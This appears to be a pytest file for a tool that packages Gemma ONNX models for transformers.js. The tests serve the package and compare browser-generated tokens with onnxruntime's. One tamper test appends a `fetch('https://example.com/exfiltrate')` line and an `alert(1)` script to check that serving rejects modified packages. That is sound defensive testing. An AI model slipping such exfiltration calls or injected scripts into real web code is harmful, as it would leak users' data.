"""Web packages: the transformers.js layout, `gemma-edge serve`, and the page in a real
headless Chromium generating the same greedy tokens as our onnxruntime runner."""

import contextlib
import json
import shutil
import subprocess
import sys
import urllib.request

import pytest

from runtime_check.web_engine import find_chromium
from tests.conftest import FAMILY_NAMES, quantize_real

PROMPT = "The quick brown fox"
TOKENS = 32


@pytest.fixture(scope="module")
def web_package(tmp_path_factory, tiny_export):
    from exporter.package import package

    cache = {}

    def get(name, artifact=None):
        key = (name, str(artifact))
        if key not in cache:
            src = artifact or tiny_export("onnx", name)[0]
            out = tmp_path_factory.mktemp("web") / f"{name}.web"
            cache[key] = (out, package(src, out, "web"))
        return cache[key]

    return get


@contextlib.contextmanager
def served(package_dir):
    """`gemma-edge serve PACKAGE --port 0` in a child process: (its URL, the process)."""
    proc = subprocess.Popen([sys.executable, "-m", "gemma_edge", "serve", str(package_dir),
                             "--port", "0", "--json"], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    try:
        line = proc.stdout.readline()
        assert line, proc.stderr.read()
        yield json.loads(line)["url"].removesuffix("index.html"), proc
    finally:
        proc.terminate()
        proc.wait(timeout=30)


@pytest.fixture(scope="module")
def browser():
    chromium = find_chromium()
    if chromium is None:
        pytest.skip("no Chromium installed (Debian package chromium; `make install` adds it): "
                    "the browser tests cannot run")
    pytest.importorskip("playwright", reason="playwright (the 'web' extra) is not installed")
    from runtime_check.web_engine import launch_browser

    with launch_browser(chromium) as (context, pid):
        yield context, pid


def run_page(browser, package_dir, prompt=PROMPT, tokens=TOKENS):
    from runtime_check.web_engine import BrowserPage

    context, pid = browser
    with served(package_dir) as (url, _proc):
        page = context.new_page()
        try:
            tab = BrowserPage(page, url, pid)
            load = tab.open(threads=2)
            result = tab.generate(prompt, tokens)
            shown = page.inner_text("#output")
            stats = page.inner_text("#stats")
        finally:
            page.close()
    return load, result, shown, stats


def python_greedy(artifact, prompt_ids, stop_ids):
    from runtime_check.onnx_runner import OnnxRunner
    from runtime_check.runner import greedy_generate

    runner = OnnxRunner(artifact, threads=2)
    try:
        return list(greedy_generate(runner, prompt_ids, TOKENS, stop_ids=stop_ids))
    finally:
        runner.close()


def test_web_package_is_the_transformers_js_layout(web_package):
    out, manifest = web_package("gemma3_text")
    config = json.loads((out / "config.json").read_text())
    web = json.loads((out / "web.json").read_text())
    assert config["model_type"] == "gemma3_text"
    assert config["transformers.js_config"] == {"dtype": "fp32",
                                                "use_external_data_format": {"model.onnx": 1}}
    assert web["dtype"] == "fp32" and web["stop_token_ids"] == [1, 5] and web["chat"] is False
    for name in ("index.html", "app.js", "worker.js", "onnx/model.onnx", "onnx/model.onnx_data",
                 "tokenizer.json", "generation_config.json", "runtime/transformers.min.js",
                 "runtime/ort-wasm-simd-threaded.asyncify.wasm"):
        assert name in manifest["files"], name
    assert manifest["package"] == "web" and manifest["model_file"] == "index.html"


@pytest.mark.parametrize("name", FAMILY_NAMES)
def test_packaged_graph_takes_transformers_js_positions(tiny_export, web_package, name):
    """transformers.js feeds gemma3_text positions from 1: the packaged graph, fed that way,
    gives the export's logits at positions from 0 (RoPE is shift-invariant, so greedy
    tokens barely show an offset; the logits show it exactly)."""
    import numpy as np
    import onnxruntime as ort

    src, export = tiny_export("onnx", name)
    out, _ = web_package(name)
    start = 1 if name == "gemma3_text" else 0
    g = export["graph"]
    feeds = {"input_ids": np.array([[2, 57, 77, 74, 226, 86]], np.int64),
             "attention_mask": np.ones((1, 6), np.int64)}
    feeds.update({n: np.zeros((1, g["num_kv_heads"], 0, g["head_dim"]), np.float32)
                  for n in g["inputs"] if n.startswith("past_key_values.")})
    base = ort.InferenceSession(str(src / "model.onnx"))
    web = ort.InferenceSession(str(out / "onnx" / "model.onnx"))
    want = base.run(["logits"], {**feeds, "position_ids": np.arange(6)[None]})[0]
    got = web.run(["logits"], {**feeds, "position_ids": np.arange(start, start + 6)[None]})[0]
    np.testing.assert_allclose(got, want, rtol=0, atol=1e-5)


@pytest.fixture(scope="module")
def tiny_quantized(tmp_path_factory, tiny, tiny_export):
    from quantization.quantize import quantize_export

    def get(recipe):
        out = tmp_path_factory.mktemp("q") / f"onnx-{recipe}"
        if not out.exists():
            quantize_export(tiny_export("onnx", "gemma3_text")[0], out, recipe,
                            ref=tiny("gemma3_text"), progress=False)
        return out

    return get


@pytest.mark.parametrize("recipe, dtype", [("int8", "q8"), ("int4-all-block32", "q4"),
                                           ("int4-head-calibrated", "q4")])
def test_quantized_packages_run_in_the_browser(browser, tiny, tiny_quantized, web_package,
                                               tmp_path, recipe, dtype):
    """int8 and int4 (4-bit tied embedding: GatherBlockQuantized, which onnxruntime-web
    lacks, rewritten to standard ops) in the page: onnxruntime's greedy tokens on the same
    weights in the same (float) arithmetic."""
    import onnx

    artifact = tiny_quantized(recipe)
    out, manifest = web_package(f"gemma3_text-{recipe}", artifact)
    graph = onnx.load(str(out / "onnx" / f"model{'_q4' if dtype == 'q4' else '_quantized'}.onnx"),
                      load_external_data=False).graph
    assert "GatherBlockQuantized" not in {n.op_type for n in graph.node}
    load, result, _, _ = run_page(browser, out)
    assert load["dtype"] == dtype
    same_math = fp32_kernel_copy(artifact, tmp_path / "fp32-kernel")
    assert result["ids"] == python_greedy(same_math, result["prompt_ids"], [1, 5])


def test_serve_sets_isolation_headers_and_mime_types(web_package):
    out, _ = web_package("gemma3_text")
    with served(out) as (url, _proc):
        for path, mime in (("index.html", "text/html"), ("app.js", "text/javascript"),
                           ("runtime/ort-wasm-simd-threaded.asyncify.mjs", "text/javascript"),
                           ("runtime/ort-wasm-simd-threaded.asyncify.wasm", "application/wasm"),
                           ("web.json", "application/json")):
            with urllib.request.urlopen(url + path, timeout=30) as resp:
                assert resp.headers["Content-Type"].startswith(mime), path
                assert resp.headers["Cross-Origin-Opener-Policy"] == "same-origin"
                assert resp.headers["Cross-Origin-Embedder-Policy"] == "require-corp"


@pytest.mark.parametrize("name", FAMILY_NAMES)
def test_browser_generates_the_onnxruntime_greedy_tokens(browser, tiny, tiny_export,
                                                         web_package, name):
    src, _ = tiny_export("onnx", name)
    out, manifest = web_package(name)
    load, result, shown, stats = run_page(browser, out)
    assert load["isolated"] and load["threads"] == 2 and load["device"] == "wasm"
    assert result["prompt_ids"] == tiny(name).encode(PROMPT)
    stops = sorted(manifest["tokens"]["stop_tokens"].values())
    assert result["ids"] == python_greedy(src, result["prompt_ids"], stops)
    assert shown == result["text"]  # the page shows the generated text
    assert "decode" in stats and "first token" in stats


def test_browser_applies_the_chat_template_for_it_models(browser, tiny, tiny_export, tmp_path,
                                                          web_package):
    """An IT artifact (the tiny export relabelled IT: same weights, Gemma's template): the
    page wraps the prompt as a user turn and generates what onnxruntime does on it."""
    from foundation.chat import format_chat

    src, _ = tiny_export("onnx", "gemma3_text")
    it = tmp_path / "onnx-it"
    shutil.copytree(src, it)
    manifest = json.loads((it / "manifest.json").read_text())
    manifest["inputs"]["variant"] = "it"
    (it / "manifest.json").write_text(json.dumps(manifest))
    out, package_manifest = web_package("gemma3_text-it", it)
    assert json.loads((out / "web.json").read_text())["chat"] is True
    load, result, _, _ = run_page(browser, out)
    want = tiny("gemma3_text").tokenizer(format_chat([{"role": "user", "content": PROMPT}]),
                                         add_special_tokens=False)["input_ids"]
    assert load["chat"] and result["prompt_ids"] == want
    assert result["ids"] == python_greedy(src, want, [1, 5])


# --- hostile input: one line, exit 2, nothing half-written ---------------------------------


def _one_line_error(capsys, argv):
    from gemma_edge.cli import main

    capsys.readouterr()  # what fixtures printed (a first export's warnings) is not ours
    try:
        code = main(argv)
    except SystemExit as exc:  # argparse's usage errors
        code = exc.code
    assert code == 2
    err = capsys.readouterr().err
    assert err.startswith("gemma-edge: error:") and err.count("\n") == 1, err
    assert "Traceback" not in err
    return err


@pytest.mark.parametrize("recipe, dtype", [("fp32", "fp32"), (None, "fp32"), ("int8", "q8"),
                                           ("int8-dynamic", "q8"), ("int4-all-calibrated", "q4")])
def test_recipes_map_to_transformers_js_dtypes(recipe, dtype):
    from exporter.web_package import DTYPE_SUFFIX, web_dtype

    assert web_dtype(recipe) == dtype
    assert DTYPE_SUFFIX[dtype] == {"fp32": "", "q8": "_quantized", "q4": "_q4"}[dtype]


def test_a_recipe_with_no_browser_dtype_is_refused():
    from exporter.web_package import web_dtype
    from foundation.errors import GemmaEdgeError

    with pytest.raises(GemmaEdgeError, match="no transformers.js dtype"):
        web_dtype("fp16")


def test_a_model_over_the_arraybuffer_limit_is_refused(tiny_export, tmp_path, monkeypatch, capsys):
    import exporter.web_package as web

    src, _ = tiny_export("onnx", "gemma")
    monkeypatch.setattr(web, "MAX_MODEL_BYTES", 1000)
    out = tmp_path / "big.web"
    err = _one_line_error(capsys, ["package", str(src), "--as", "web", "--out", str(out)])
    assert "2 GiB" in err and "int4" in err
    assert not out.exists() and list(tmp_path.iterdir()) == []


def test_missing_runtime_files_are_named(tiny_export, tmp_path, monkeypatch, capsys):
    import exporter.web_package as web

    src, _ = tiny_export("onnx", "gemma")
    monkeypatch.setattr(web, "RUNTIME_FILES", ((tmp_path / "none", "transformers.min.js"),))
    out = tmp_path / "x.web"
    err = _one_line_error(capsys, ["package", str(src), "--as", "web", "--out", str(out)])
    assert "npm install" in err and not out.exists()


def test_serve_refuses_what_is_not_a_web_package(tiny_export, web_package, tmp_path, capsys):
    from exporter.package import package

    src, _ = tiny_export("onnx", "gemma")
    bundle = tmp_path / "b.onnx-bundle"
    package(src, bundle, "onnx-bundle")
    (tmp_path / "file.txt").write_text("x")
    assert "not a directory" in _one_line_error(capsys, ["serve", str(tmp_path / "none")])
    assert "not a directory" in _one_line_error(capsys, ["serve", str(tmp_path / "file.txt")])
    assert "not a package" in _one_line_error(capsys, ["serve", str(src)])
    assert "not a web one" in _one_line_error(capsys, ["serve", str(bundle)])
    good, _ = web_package("gemma")
    for port in ("70000", "-1"):
        assert "not a TCP port" in _one_line_error(capsys, ["serve", str(good), "--port", port])
    assert "invalid int" in _one_line_error(capsys, ["serve", str(good), "--port", "http"])


def test_serve_refuses_a_tampered_package_and_a_taken_port(web_package, tmp_path, capsys):
    import socket

    good, _ = web_package("gemma")
    bad = tmp_path / "bad.web"
    shutil.copytree(good, bad)
    with open(bad / "worker.js", "a") as fh:
        fh.write("\nfetch('https://example.com/exfiltrate');\n")
    assert "does not match its manifest" in _one_line_error(capsys, ["serve", str(bad)])
    (bad / "worker.js").unlink()
    shutil.copy2(good / "worker.js", bad / "worker.js")
    (bad / "extra.js").write_text("alert(1)")
    assert "does not list" in _one_line_error(capsys, ["serve", str(bad)])
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = str(taken.getsockname()[1])
        assert "already in use" in _one_line_error(capsys, ["serve", str(good), "--port", port])


# --- the real Gemma 3 270M, quantized, in the browser ---------------------------------------


@pytest.fixture(scope="module")
def real_quantized(real_onnx):
    """The 270M's int8 and int4 ONNX artifacts, the same ones test_real_quantize.py reads
    (made once per run, by whichever module asks first)."""
    made = quantize_real(real_onnx[0], ["int8", "int4-block32"])
    return {"int8": made["int8"], "int4": made["int4-block32"]}


def fp32_kernel_copy(artifact, out):
    """The artifact with MatMulNBits' accuracy_level 0: the same weights in float arithmetic,
    which is what onnxruntime-web's WASM MatMulNBits computes (it has no int8 kernel and
    dequantizes the weights), where x86 onnxruntime honours level 4 (int8 activations)."""
    import onnx

    shutil.copytree(artifact, out)
    model = onnx.load(str(out / "model.onnx"), load_external_data=False)
    for node in model.graph.node:
        for attr in node.attribute:
            if node.op_type == "MatMulNBits" and attr.name == "accuracy_level":
                attr.i = 0
    onnx.save(model, str(out / "model.onnx"))
    return out


@pytest.mark.real
def test_real_270m_int8_and_int4_in_the_browser(browser, real_ref, real_quantized, tmp_path):
    """32 greedy tokens of the real model in the page (WASM) equal onnxruntime's in Python
    on the same artifact's weights and arithmetic, for int8 (q8) and int4 (q4)."""
    from exporter.package import package

    prompt = "The capital of France is"
    for kind, artifact in real_quantized.items():
        out = tmp_path / f"{kind}.web"
        manifest = package(artifact, out, "web")
        load, result, shown, _ = run_page(browser, out, prompt)
        assert load["dtype"] == {"int8": "q8", "int4": "q4"}[kind]
        assert result["prompt_ids"] == real_ref.encode(prompt)
        stops = sorted(manifest["tokens"]["stop_tokens"].values())
        same_math = fp32_kernel_copy(artifact, tmp_path / f"{kind}-fp32-kernel")
        assert result["ids"] == python_greedy(same_math, result["prompt_ids"], stops), kind
        assert len(shown) > 20  # real text on the page
